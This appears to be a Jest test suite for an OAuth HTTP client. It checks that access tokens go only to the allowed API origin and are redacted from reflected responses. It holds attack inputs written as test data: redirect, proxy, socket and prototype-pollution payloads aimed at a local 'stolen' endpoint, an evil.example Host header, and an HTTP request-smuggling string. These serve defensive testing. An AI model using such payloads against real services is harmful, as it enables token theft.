import fs from 'node:fs';
import http from 'node:http';
import http2 from 'node:http2';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { inspect } from 'node:util';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import express from 'express';
import axios, { type AxiosAdapter, type AxiosRequestConfig, type AxiosRequestTransformer, type InternalAxiosRequestConfig } from 'axios';
import { requireAuth } from '../../lib/index.js';
import { createAgents, createOAuthClient } from '../../lib/client.js';
import type { ResolvedConfig } from '../../lib/config.js';
import type { TestBrowser } from '../helpers/browser.js';
import { createEnv, type TestEnv } from '../helpers/env.js';

/**
 * Rule 12 and family I: `req.oauthClient` sends the token only to the checked origin whatever request config
 * the app passes, and hands back nothing that holds the token even when the API reflects the request.
 *
 * Every destination test points at live recording servers (HTTP/1.1 on loopback, HTTP/2 cleartext, a unix
 * socket, and one on 127.0.0.2 at the API's own port for DNS tricks) and asserts they received nothing at all:
 * not a connection, let alone a request.
 */

let env: TestEnv;
/** Everything any recorder received: connections and requests, with whether an Authorization header came along. */
const received: string[] = [];
const closers: Array<() => void> = [];
let recorderUrl: string;
let recorderPort: number;
let h2Port: number;
let socketPath: string;
/** The API's origin spelled with a hostname (`localhost`), so a custom DNS lookup has something to resolve. */
let apiByName: string;
/** An allowed API origin that reflects the request (debug pages, echoing headers) and redirects to the recorder. */
let reflector: { url: string; hosts: string[] };
/** Request configs the app builds in code (functions cannot come from JSON). */
const cases: Record<string, () => AxiosRequestConfig> = {};
/** What a custom adapter saw, when one ran. */
const adapterSaw: string[] = [];

function listen(server: http.Server | http2.Http2Server, port: number | string, host?: string): Promise<void> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    if (typeof port === 'string') server.listen(port, () => resolve());
    else server.listen(port, host, () => resolve());
  });
}

/** An HTTP/1.1 server that records every connection and request it receives. */
async function startRecorder(label: string, port: number | string, host?: string): Promise<http.Server> {
  const server = http.createServer((req, res) => {
    received.push(`${label} ${req.method} ${req.url} authorization=${req.headers.authorization ? 'yes' : 'no'}`);
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"recorded":true}');
  });
  server.on('connection', () => received.push(`${label} connection`));
  await listen(server, port, host);
  closers.push(() => {
    server.closeAllConnections();
    server.close();
  });
  return server;
}

const json = { accept: 'application/json' };

beforeAll(async () => {
  // The reflecting API (an allowed origin).
  const hosts: string[] = [];
  const reflect = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    const auth = req.headers.authorization ?? '';
    hosts.push(req.headers.host ?? '');
    const status = Number(url.searchParams.get('status') ?? 200);
    const echo = { 'x-echo-authorization': auth, 'set-cookie': [`debug=${auth.replace(/\s/g, '_')}`] };
    switch (url.pathname) {
      case '/text':
        return void res.writeHead(status, { 'content-type': 'text/plain', ...echo }).end(`Debug page\nAuthorization: ${auth}\n`);
      case '/json':
        return void res
          .writeHead(status, { 'content-type': 'application/json', ...echo })
          .end(JSON.stringify({ error: 'debug', headers: req.headers }));
      case '/json-escaped':
        // PHP-style JSON: every slash escaped.
        return void res
          .writeHead(status, { 'content-type': 'application/json', ...echo })
          .end(JSON.stringify({ authorization: auth, encoded: encodeURIComponent(auth) }).replaceAll('/', '\\/'));
      case '/redirect':
        return void res.writeHead(302, { location: `${recorderUrl}/stolen` }).end();
      case '/host':
        return void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ host: req.headers.host }));
      default:
        return void res.writeHead(404).end();
    }
  });
  await listen(reflect, 0, '127.0.0.1');
  reflector = { url: `http://127.0.0.1:${(reflect.address() as AddressInfo).port}`, hosts };
  closers.push(() => {
    reflect.closeAllConnections();
    reflect.close();
  });

  env = await createEnv({
    oauth: (_provider, api) => {
      apiByName = api.url.replace('127.0.0.1', 'localhost');
      return { httpTimeout: 2000, apiBaseUrl: [api.url, apiByName, reflector.url] };
    },
    routes: (app) => {
      // The app bug of issue 9: a caller's JSON spread into the request config.
      app.post('/api/spread', requireAuth(), express.json(), async (req, res) => {
        const r = await req.oauthClient.request({ url: '/v1/me', ...req.body });
        res.json({ status: r.status, data: typeof r.data === 'object' && !Buffer.isBuffer(r.data) ? r.data : String(r.data) });
      });
      app.get('/api/case/:name', requireAuth(), async (req, res) => {
        const r = await req.oauthClient.request(cases[String(req.params.name)]!());
        res.json({ status: r.status, data: r.data });
      });
      // What an app that logs upstream failures (and successes) would hand to its logger.
      app.get('/api/reflect', requireAuth(), async (req, res) => {
        const show = (d: unknown) => (Buffer.isBuffer(d) ? d.toString('latin1') : typeof d === 'string' ? d : JSON.stringify(d));
        const extra = JSON.parse(String(req.query.config ?? '{}')) as AxiosRequestConfig;
        try {
          const r = await req.oauthClient.get(`${reflector.url}${String(req.query.path)}`, extra);
          env.logger.info('api answered', { data: show(r.data), headers: r.headers });
          res.json({
            ok: true,
            status: r.status,
            statusText: r.statusText,
            headers: r.headers,
            data: show(r.data),
            inspected: inspect(r, { depth: 8 }),
            // Any value left on the config handed back (the package's token-source handle must not be).
            configValues: Object.values(r.config).filter((v) => v && typeof v === 'object' && v.constructor?.name === 'SourceHandle').length,
          });
        } catch (err) {
          const e = err as Error & { toJSON?: () => unknown; response?: { status: number; headers: unknown; data: unknown } };
          env.logger.error('api failed', { message: e.message, data: show(e.response?.data), headers: e.response?.headers });
          res.json({
            ok: false,
            status: e.response?.status,
            message: e.message,
            headers: e.response?.headers,
            data: show(e.response?.data),
            inspected: inspect(err, { depth: 12 }),
            json: JSON.stringify(e.toJSON?.() ?? null),
            configValues: Object.values((err as { config?: object }).config ?? {}).filter(
              (v: unknown) => v && typeof v === 'object' && (v as object).constructor?.name === 'SourceHandle',
            ).length,
          });
        }
      });
    },
  });
  const apiPort = Number(new URL(env.api.url).port);

  const recorder = await startRecorder('recorder', 0, '127.0.0.1');
  recorderPort = (recorder.address() as AddressInfo).port;
  recorderUrl = `http://127.0.0.1:${recorderPort}`;
  // Same port as the API, another loopback address: where a forged DNS answer for `localhost` would lead.
  await startRecorder('dns-recorder', apiPort, '127.0.0.2');
  socketPath = path.join(os.tmpdir(), `eoc-outbound-${process.pid}-${Date.now()}.sock`);
  await startRecorder('unix-recorder', socketPath);
  closers.push(() => fs.rmSync(socketPath, { force: true }));
  const h2 = http2.createServer();
  h2.on('session', () => received.push('h2-recorder session'));
  h2.on('stream', (stream, headers) => {
    received.push(`h2-recorder ${String(headers[':path'])} authorization=${headers.authorization ? 'yes' : 'no'}`);
    stream.respond({ ':status': 200, 'content-type': 'application/json' });
    stream.end('{"recorded":true}');
  });
  await listen(h2, 0, '127.0.0.1');
  h2Port = (h2.address() as AddressInfo).port;
  closers.push(() => h2.close());
});

afterAll(async () => {
  for (const close of closers) close();
  await env?.close();
});

beforeEach(() => {
  received.length = 0;
  adapterSaw.length = 0;
});

let browser: TestBrowser;
let token: string;
async function loggedIn(): Promise<void> {
  browser = (await env.login()).browser;
  token = (await env.readRecord(env.sid(browser)))!.access_token;
}

/** The negative-test epilogue: no recorder saw anything, the token is nowhere in the logs, the session still works. */
async function expectNothingSentElsewhere(bodies: string[] = []): Promise<void> {
  // Give a stray connection time to land before declaring the recorders untouched.
  await new Promise((r) => setTimeout(r, 50));
  expect(received).toEqual([]);
  const me = await browser.request(`${env.appUrl}/api/me`, { headers: json });
  expect(me.status).toBe(200);
  const haystack = [...bodies, me.body, ...env.logger.lines].join('\n');
  expect(haystack.includes(token) ? 'token leaked' : 'clean').toBe('clean');
}

/** A transformRequest hook that changes the config after the check (axios runs it with `this` = config). */
const after = (change: (config: Record<string, unknown>) => void): AxiosRequestTransformer =>
  function (this: InternalAxiosRequestConfig, data: unknown) {
    change(this as unknown as Record<string, unknown>);
    return data;
  };

const spread = (body: unknown) =>
  browser.request(`${env.appUrl}/api/spread`, {
    method: 'POST',
    headers: { ...json, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
const runCase = (name: string, config: () => AxiosRequestConfig) => {
  cases[name] = config;
  return browser.request(`${env.appUrl}/api/case/${name}`, { headers: json });
};

describe('I: the token reaches only the checked origin, whatever the request config (rule 12)', () => {
  beforeAll(async () => loggedIn());

  it('I13: socketPath in the request config never receives the token', async () => {
    const res = await spread({ socketPath });
    // Ignored: the request goes to the API it names.
    expect(res.status).toBe(200);
    expect(JSON.parse(res.body).data.sub).toBeTruthy();
    await expectNothingSentElsewhere([res.body]);
  });

  it('I14: a custom DNS lookup (or address family) cannot send the token to another address', async () => {
    const res = await runCase('lookup', () => ({
      url: `${apiByName}/v1/me`,
      lookup: ((_host: string, _opts: unknown, cb: (err: Error | null, address: string, family: number) => void) =>
        cb(null, '127.0.0.2', 4)) as unknown as AxiosRequestConfig['lookup'],
      family: 4,
    }));
    expect([200, 500]).toContain(res.status);
    await expectNothingSentElsewhere([res.body]);
  });

  it('I15: a custom transport never sees the request', async () => {
    let called = 0;
    const res = await runCase('transport', () => ({
      url: '/v1/me',
      transport: {
        request(options: http.RequestOptions, cb: (res: http.IncomingMessage) => void) {
          called++;
          return http.request({ ...options, hostname: '127.0.0.1', port: recorderPort, agent: undefined }, cb);
        },
      },
    }));
    expect(res.status).toBe(200);
    expect(called).toBe(0);
    await expectNothingSentElsewhere([res.body]);
  });

  it('I16: a custom adapter in the call config is refused before anything is sent (it never runs)', async () => {
    const adapter: AxiosAdapter = async (config) => {
      adapterSaw.push(String(config.headers?.Authorization ?? 'none'));
      await fetch(`${recorderUrl}/adapter`, { headers: { authorization: String(config.headers?.Authorization ?? '') } });
      return { data: {}, status: 200, statusText: 'OK', headers: {}, config };
    };
    const res = await runCase('adapter', () => ({ adapter }));
    expect(res.status).toBe(500);
    expect(JSON.parse(res.body)).toEqual({ error: 'origin_not_allowed' });
    expect(adapterSaw).toEqual([]);
    // Named adapters from a JSON body are refused the same way.
    for (const name of ['fetch', 'xhr', ['fetch', 'http']]) {
      const r = await spread({ adapter: name, url: `${recorderUrl}/x` });
      expect(r.status).toBe(500);
      expect(JSON.parse(r.body)).toEqual({ error: 'origin_not_allowed' });
    }
    expect(env.logger.lines.join('\n')).toContain('origin_not_allowed');
    await expectNothingSentElsewhere([res.body]);
  });

  it('I17: transformRequest that rewrites this.url, this.baseURL or allowAbsoluteUrls after the check is refused at dispatch', async () => {
    const rewrites: Array<(this: Record<string, unknown>) => void> = [
      function () {
        this.url = `${recorderUrl}/stolen`;
      },
      function () {
        this.baseURL = recorderUrl;
        this.url = '/stolen';
      },
      function () {
        this.baseURL = recorderUrl;
        this.allowAbsoluteUrls = false;
      },
      function () {
        this.url = `//127.0.0.1:${recorderPort}/stolen`;
      },
    ];
    for (const [i, rewrite] of rewrites.entries()) {
      const res = await runCase(`transform-${i}`, () => ({
        url: '/v1/me',
        transformRequest: [after((c) => rewrite.call(c))],
      }));
      expect(res.status).toBe(500);
      expect(JSON.parse(res.body)).toEqual({ error: 'origin_not_allowed' });
    }
    await expectNothingSentElsewhere();
  });

  it('I18: redirects stay unfollowed even when maxRedirects and beforeRedirect are set (in the config or after the check)', async () => {
    const beforeRedirect = (options: Record<string, unknown>) => {
      (options.headers as Record<string, string>).authorization = 'Bearer re-added';
    };
    const viaConfig = await runCase('redirect-config', () => ({ url: `${reflector.url}/redirect`, maxRedirects: 5, beforeRedirect }));
    expect(viaConfig.status).toBe(302);
    const viaTransform = await runCase('redirect-transform', () => ({
      url: `${reflector.url}/redirect`,
      transformRequest: [
        after((c) => {
          c.maxRedirects = 5;
          c.beforeRedirect = beforeRedirect;
        }),
      ],
    }));
    expect(viaTransform.status).toBe(302);
    const viaJson = await spread({ url: `${reflector.url}/redirect`, maxRedirects: 5 });
    expect(viaJson.status).toBe(302);
    await expectNothingSentElsewhere([viaConfig.body, viaTransform.body, viaJson.body]);
  });

  it('I19: a proxy in the request config (or set after the check) never receives the token', async () => {
    const proxy = { protocol: 'http', host: '127.0.0.1', port: recorderPort };
    const viaJson = await spread({ proxy });
    expect(viaJson.status).toBe(200);
    const viaTransform = await runCase('proxy-transform', () => ({
      url: '/v1/me',
      transformRequest: [after((c) => (c.proxy = proxy))],
    }));
    expect(viaTransform.status).toBe(200);
    await expectNothingSentElsewhere([viaJson.body, viaTransform.body]);
  });

  it('I20: HTTP/2 options that carry their own host and port never receive the token', async () => {
    const res = await spread({ httpVersion: 2, http2Options: { host: '127.0.0.1', port: h2Port, rejectUnauthorized: false } });
    expect(res.status).toBe(200);
    const viaTransform = await runCase('h2-transform', () => ({
      url: '/v1/me',
      transformRequest: [
        after((c) => {
          c.httpVersion = 2;
          c.http2Options = { host: '127.0.0.1', port: h2Port };
        }),
      ],
    }));
    expect(viaTransform.status).toBe(200);
    await expectNothingSentElsewhere([res.body, viaTransform.body]);
  });

  it('I21: a caller-controlled JSON body spread into the request config sends the token nowhere but the API', async () => {
    const payloads: unknown[] = [
      { url: `${recorderUrl}/stolen` },
      { baseURL: recorderUrl, url: '/stolen' },
      { baseURL: recorderUrl, url: '/stolen', allowAbsoluteUrls: false },
      { url: `${recorderUrl}/stolen`, allowAbsoluteUrls: true, baseURL: env.api.url },
      { url: `//127.0.0.1:${recorderPort}/stolen` },
      { url: `${env.api.url}@127.0.0.1:${recorderPort}/stolen` },
      { socketPath, url: 'http://localhost/v1/me' },
      { socketPath, baseURL: 'http://localhost' },
      { socketPath: { path: socketPath } },
      { proxy: { protocol: 'http', host: '127.0.0.1', port: recorderPort, auth: { username: 'a', password: 'b' } } },
      { httpVersion: 2, http2Options: { host: '127.0.0.1', port: h2Port } },
      { httpVersion: '2', http2Options: { port: h2Port } },
      { maxRedirects: 10, url: `${reflector.url}/redirect` },
      { lookup: '127.0.0.2', family: 6, url: `${apiByName}/v1/me` },
      { transport: 'http', insecureHTTPParser: true },
      { env: { fetch: null }, fetchOptions: { redirect: 'follow' } },
      { allowedSocketPaths: [socketPath], socketPath },
      { params: { next: `${recorderUrl}/stolen` }, paramsSerializer: { indexes: null } },
      { headers: { Host: `127.0.0.1:${recorderPort}`, Authorization: 'Bearer attacker' } },
      { method: 'get', url: `${recorderUrl}/stolen`, validateStatus: null, responseType: 'stream' },
      { auth: { username: 'attacker', password: 'x' } },
      { __proto__: { url: `${recorderUrl}/stolen`, socketPath } },
      { constructor: { prototype: { socketPath } } },
    ];
    const bodies: string[] = [];
    for (const body of payloads) {
      const res = await spread(body);
      bodies.push(res.body);
      // Either sent to the configured API or refused: never a crash, never elsewhere.
      const outcome = res.status === 500 ? JSON.parse(res.body).error : [200, 302, 401, 404].includes(res.status) ? 'sent to the API' : res.status;
      expect([JSON.stringify(body), outcome]).toEqual([JSON.stringify(body), expect.stringMatching(/^(origin_not_allowed|sent to the API)$/)]);
      expect(received.length ? `${JSON.stringify(body)} reached ${received.join(', ')}` : 'nothing').toBe('nothing');
    }
    await expectNothingSentElsewhere(bodies);
  });

  it('I22: a Host header cannot pick another virtual host behind the API address', async () => {
    const res = await spread({ url: `${reflector.url}/host`, headers: { Host: 'evil.example' } });
    expect(res.status).toBe(200);
    expect(JSON.parse(res.body).data).toEqual({ host: new URL(reflector.url).host });
    await expectNothingSentElsewhere([res.body]);
  });

  it('I23: an adapter swapped in by transformRequest (after the check) never gets the token', async () => {
    const adapter: AxiosAdapter = async (config) => {
      adapterSaw.push(config.headers?.Authorization ? 'with token' : 'without token');
      return { data: { swapped: true }, status: 200, statusText: 'OK', headers: {}, config };
    };
    const res = await runCase('adapter-swap', () => ({
      url: '/v1/me',
      transformRequest: [after((c) => (c.adapter = adapter))],
    }));
    expect(res.status).toBe(200);
    expect(adapterSaw).toEqual(['without token']);
    await expectNothingSentElsewhere([res.body]);
  });
});

describe('I: responses that reflect the request hand back no token (rule 12)', () => {
  beforeAll(async () => loggedIn());

  const reflect = (p: string, config: AxiosRequestConfig = {}) =>
    browser.request(`${env.appUrl}/api/reflect?path=${encodeURIComponent(p)}&config=${encodeURIComponent(JSON.stringify(config))}`, {
      headers: json,
    });

  it('I24: a reflected token is redacted from text, JSON and arraybuffer bodies, headers and errors, on 200 and on 500', async () => {
    for (const status of [200, 500]) {
      for (const p of ['/text', '/json', '/json-escaped']) {
        for (const responseType of ['json', 'text', 'arraybuffer'] as const) {
          const res = await reflect(`${p}?status=${status}`, { responseType });
          const body = JSON.parse(res.body);
          expect(body.ok).toBe(status === 200);
          expect(body.status).toBe(status);
          // The API did reflect it: what came back says so, without the token.
          expect(body.data).toContain('[REDACTED]');
          expect(body.headers['x-echo-authorization']).toBe('Bearer [REDACTED]');
          expect(String(body.headers['set-cookie'])).toBe('debug=Bearer_[REDACTED]');
          expect(res.body.includes(token) ? `${p} ${status} ${responseType}: token leaked` : 'clean').toBe('clean');
        }
      }
    }
    // The API did receive the token: the redaction is on the way back only.
    expect(env.logger.lines.join('\n')).not.toContain(token);
    await expectNothingSentElsewhere();
  });

  it('I45: the config handed back on a response or an error holds no token-source handle (replaying it sends no token)', async () => {
    for (const status of [200, 500]) {
      const body = JSON.parse((await reflect(`/json?status=${status}`)).body);
      expect(body.status).toBe(status);
      expect(body.configValues).toBe(0);
    }
  });

  it('I25: the token is redacted before JSON parsing, so parsed data holds none either', async () => {
    const res = await reflect('/json?status=500');
    const body = JSON.parse(res.body);
    expect(JSON.parse(body.data).headers.authorization).toBe('Bearer [REDACTED]');
    expect(body.json).not.toContain(token);
    expect(body.inspected).not.toContain(token);
    expect(body.message).not.toContain(token);
    await expectNothingSentElsewhere([res.body]);
  });

  it('I26: a responseEncoding other than utf8 cannot carry the token out in another form', async () => {
    for (const responseEncoding of ['base64', 'hex', 'latin1', 'utf16le'] as const) {
      const res = await reflect('/text?status=500', { responseType: 'text', responseEncoding });
      const body = JSON.parse(res.body);
      const decoded = Buffer.from(body.data, responseEncoding === 'latin1' ? 'latin1' : responseEncoding).toString('utf8');
      if (responseEncoding !== 'utf16le') expect(decoded).toContain('[REDACTED]');
      expect(decoded.includes(token) || res.body.includes(token) ? `${responseEncoding}: token leaked` : 'clean').toBe('clean');
    }
    await expectNothingSentElsewhere();
  });

  it('I27: a streamed response has its headers redacted (its body is passed through, as documented)', async () => {
    const res = await reflect('/text', { responseType: 'stream' });
    const body = JSON.parse(res.body);
    expect(body.headers['x-echo-authorization']).toBe('Bearer [REDACTED]');
    expect(body.inspected).not.toContain(token);
    // Do not read the body: consume nothing, the stream is dropped with the response.
    await expectNothingSentElsewhere();
  });
});

describe('I: redaction of tokens with JSON- and URL-escaped characters (rule 12)', () => {
  it('I28: a token with "/" and "+" is redacted in raw, JSON-escaped (\\/) and percent-encoded reflections', async () => {
    const fake = 'abc/def+ghi/jkl==mno+pqr/stu-vwx_yz0123456789';
    const cfg = {
      apiOrigins: new Set([reflector.url]),
      apiBaseUrl: reflector.url,
      httpTimeout: 2000,
      maxResponseBytes: 1 << 20,
    } as unknown as ResolvedConfig;
    const agents = createAgents();
    const client = createOAuthClient(cfg, agents, { accessToken: async () => fake });
    try {
      const forms = [fake, fake.replaceAll('/', '\\/'), encodeURIComponent(fake)];
      const ok = await client.get('/json-escaped');
      const parsed = ok.data as { authorization: string; encoded: string };
      expect(parsed.authorization).toBe('Bearer [REDACTED]');
      expect(parsed.encoded).toBe(`Bearer%20[REDACTED]`);
      const failed = await client.get('/json-escaped?status=500', { responseType: 'text' }).catch((e: unknown) => e);
      const e = failed as { response: { data: string; headers: Record<string, string> }; toJSON(): unknown };
      const everything = [
        inspect(ok, { depth: 8 }),
        JSON.stringify(ok.data),
        inspect(failed, { depth: 12 }),
        JSON.stringify(e.toJSON()),
        e.response.data,
      ];
      for (const f of forms) expect(everything.join('\n').includes(f) ? `leaked ${f}` : 'clean').toBe('clean');
      expect(e.response.headers['x-echo-authorization']).toBe('Bearer [REDACTED]');
    } finally {
      agents.http.destroy();
      agents.https.destroy();
    }
  });
});

describe('I: no user state shared through the keep-alive pool (rule 12)', () => {
  it("I43: framing headers from the app (Content-Length, Transfer-Encoding, Connection) cannot splice the next user's request into this one", async () => {
    const stored: string[] = [];
    const seen: Array<{ url: string; authorization: string | undefined }> = [];
    const server = http.createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        seen.push({ url: req.url ?? '', authorization: req.headers.authorization });
        if (req.url === '/comments') stored.push(body);
        res.writeHead(200, { 'content-type': 'text/plain' }).end(`ok ${req.url}`);
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const cfg = { apiOrigins: new Set([base]), apiBaseUrl: base, httpTimeout: 3000, maxResponseBytes: 1 << 20 } as unknown as ResolvedConfig;
    const agents = createAgents();
    const client = (token: string) => createOAuthClient(cfg, agents, { accessToken: async () => token });
    try {
      const smuggled = 'POST /comments HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: 120\r\n\r\n';
      for (const headers of [
        { 'Content-Length': '0', 'Content-Type': 'text/plain' },
        { 'Transfer-Encoding': 'chunked', 'Content-Type': 'text/plain' },
        { Connection: 'keep-alive, Content-Length', 'Content-Length': '1' },
      ]) {
        await client('ALICE-TOKEN-0123456789')
          .post('/notes', smuggled, { headers })
          .catch(() => undefined);
        const bob = await client('BOB-TOKEN-0123456789').get('/profile');
        expect(bob.status).toBe(200);
        expect(bob.data).toBe('ok /profile');
      }
      await new Promise((r) => setTimeout(r, 100));
      expect(stored).toEqual([]);
      expect(seen.filter((s) => s.url === '/profile').every((s) => s.authorization === 'Bearer BOB-TOKEN-0123456789')).toBe(true);
      expect(seen.filter((s) => s.url === '/notes').every((s) => s.authorization === 'Bearer ALICE-TOKEN-0123456789')).toBe(true);
    } finally {
      agents.http.destroy();
      agents.https.destroy();
      server.closeAllConnections();
      server.close();
    }
  });
});

describe('I: a keep-alive socket the API closed as idle (rule 12, reliability)', () => {
  it('I44: a reset of a reused socket before any response is retried once for an idempotent call, never for a POST', async () => {
    // Answers the first request of each connection; resets the connection on its second request, without answering.
    let connections = 0;
    const received: string[] = [];
    const server = http.createServer((req, res) => {
      const socket = req.socket as typeof req.socket & { served?: number };
      socket.served = (socket.served ?? 0) + 1;
      received.push(`${req.method} ${req.url}`);
      if (socket.served > 1) return void socket.destroy();
      res.writeHead(200, { 'content-type': 'text/plain', connection: 'keep-alive' }).end(`ok ${req.url}`);
    });
    server.on('connection', () => connections++);
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const cfg = { apiOrigins: new Set([base]), apiBaseUrl: base, httpTimeout: 3000, maxResponseBytes: 1 << 20 } as unknown as ResolvedConfig;
    const agents = createAgents();
    const client = createOAuthClient(cfg, agents, { accessToken: async () => 'TOKEN-0123456789' });
    try {
      expect((await client.get('/a')).data).toBe('ok /a');
      // Reuses the idle socket, which the server resets: sent again on a new connection.
      expect((await client.get('/b')).data).toBe('ok /b');
      expect(connections).toBe(2);
      // A POST on a reused socket that is reset is not sent twice.
      const failed = await client.post('/c', 'x').catch((e: unknown) => e);
      expect((failed as { code?: string }).code).toBe('ECONNRESET');
      expect(received.filter((r) => r === 'POST /c')).toHaveLength(1);
    } finally {
      agents.http.destroy();
      server.closeAllConnections();
      server.close();
    }
  });
});

describe('I: the deadline of a call and the cancellation of the app (rule 12)', () => {
  const TOKEN = 'DEADLINE-TOKEN-0123456789';
  let server: http.Server;
  let base: string;
  /** Requests the server received, with the Authorization header each carried. */
  const seen: Array<{ url: string; authorization: string | undefined }> = [];
  const timers: NodeJS.Timeout[] = [];
  beforeAll(async () => {
    server = http.createServer((req, res) => {
      seen.push({ url: req.url ?? '', authorization: req.headers.authorization });
      if (req.url === '/hang') return; // never answers
      if (req.url === '/drip') {
        // Headers at once, then a chunk every 100 ms, forever: only an overall deadline ends it.
        res.writeHead(200, { 'content-type': 'text/plain' });
        res.write('first;');
        const t = setInterval(() => res.write('more;'), 100);
        timers.push(t);
        res.on('close', () => clearInterval(t));
        return;
      }
      res.writeHead(200, { 'content-type': 'text/plain' }).end(`ok ${req.url}`);
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => {
    for (const t of timers) clearInterval(t);
    server.closeAllConnections();
    server.close();
  });
  const withClient = async (httpTimeout: number, run: (client: ReturnType<typeof createOAuthClient>) => Promise<void>) => {
    const cfg = { apiOrigins: new Set([base]), apiBaseUrl: base, httpTimeout, maxResponseBytes: 1 << 20 } as unknown as ResolvedConfig;
    const agents = createAgents();
    try {
      await run(createOAuthClient(cfg, agents, { accessToken: async () => TOKEN }));
    } finally {
      agents.http.destroy();
    }
  };

  it('I46: a streamed body (responseType: stream) that keeps dripping is cut at httpTimeout; the stream error holds no token', async () => {
    await withClient(800, async (client) => {
      const started = Date.now();
      const res = await client.get('/drip', { responseType: 'stream' });
      expect(res.status).toBe(200);
      const stream = res.data as NodeJS.ReadableStream;
      let bytes = 0;
      const outcome = await new Promise<{ error?: unknown; ended: boolean }>((resolve) => {
        stream.on('data', (c: Buffer) => (bytes += c.length));
        stream.on('error', (error) => resolve({ error, ended: false }));
        stream.on('end', () => resolve({ ended: true }));
        // Without a deadline on the stream this never settles: the test fails on the jest timeout instead.
      });
      const elapsed = Date.now() - started;
      expect(outcome.ended).toBe(false);
      expect(bytes).toBeGreaterThan(0);
      expect(elapsed).toBeGreaterThanOrEqual(700);
      expect(elapsed).toBeLessThan(4000);
      expect(inspect(outcome.error, { depth: 6 })).not.toContain(TOKEN);
    });
  });

  it('I48: the token-source handle an interceptor sees on the config leads nowhere: no field, no static method on its class', async () => {
    await withClient(5000, async (client) => {
      let handle: unknown;
      client.interceptors.request.use((config) => {
        handle = (config as unknown as Record<string, unknown>).oauthTokenSource;
        return config;
      });
      expect((await client.get('/fine')).data).toBe('ok /fine');
      expect(typeof handle).toBe('object');
      expect(Reflect.ownKeys(handle as object)).toEqual([]);
      const ctor = (handle as { constructor: object }).constructor;
      // Only what every class has: nothing callable that takes a handle and gives back its source or token.
      expect(Reflect.ownKeys(ctor).sort()).toEqual(['length', 'name', 'prototype']);
      expect(Reflect.ownKeys(Object.getPrototypeOf(handle) as object)).toEqual(['constructor']);
      expect(inspect(handle, { showHidden: true, depth: 5 })).not.toContain(TOKEN);
    });
  });

  it("I47: the app's AbortSignal and its cancelToken cancel a hanging call (a cancellation, not upstream_timeout); an aborted signal sends nothing", async () => {
    await withClient(10_000, async (client) => {
      const before = seen.length;
      const controller = new AbortController();
      setTimeout(() => controller.abort(), 200);
      let started = Date.now();
      const bySignal = await client.get('/hang', { signal: controller.signal }).catch((e: unknown) => e);
      expect(axios.isCancel(bySignal)).toBe(true);
      expect((bySignal as { code?: string }).code).toBe('ERR_CANCELED');
      expect(Date.now() - started).toBeLessThan(3000);

      const source = axios.CancelToken.source();
      setTimeout(() => source.cancel('the user left'), 200);
      started = Date.now();
      const byToken = await client.get('/hang', { cancelToken: source.token }).catch((e: unknown) => e);
      expect(axios.isCancel(byToken)).toBe(true);
      expect((byToken as Error).message).toBe('the user left');
      expect(Date.now() - started).toBeLessThan(3000);
      // Both reached the API with the token before they were cancelled.
      expect(seen.slice(before).map((s) => [s.url, s.authorization])).toEqual([
        ['/hang', `Bearer ${TOKEN}`],
        ['/hang', `Bearer ${TOKEN}`],
      ]);
      for (const e of [bySignal, byToken]) expect(inspect(e, { depth: 6 })).not.toContain(TOKEN);

      // Already aborted or cancelled: nothing is sent at all.
      const aborted = AbortSignal.abort();
      expect(axios.isCancel(await client.get('/never', { signal: aborted }).catch((e: unknown) => e))).toBe(true);
      const cancelled = axios.CancelToken.source();
      cancelled.cancel('gone');
      expect(axios.isCancel(await client.get('/never', { cancelToken: cancelled.token }).catch((e: unknown) => e))).toBe(true);
      expect(seen.slice(before).filter((s) => s.url === '/never')).toEqual([]);

      // The client still works afterwards, and a call that was not cancelled is not cut short.
      expect((await client.get('/fine', { signal: new AbortController().signal, cancelToken: axios.CancelToken.source().token })).data).toBe(
        'ok /fine',
      );
    });
  });
});
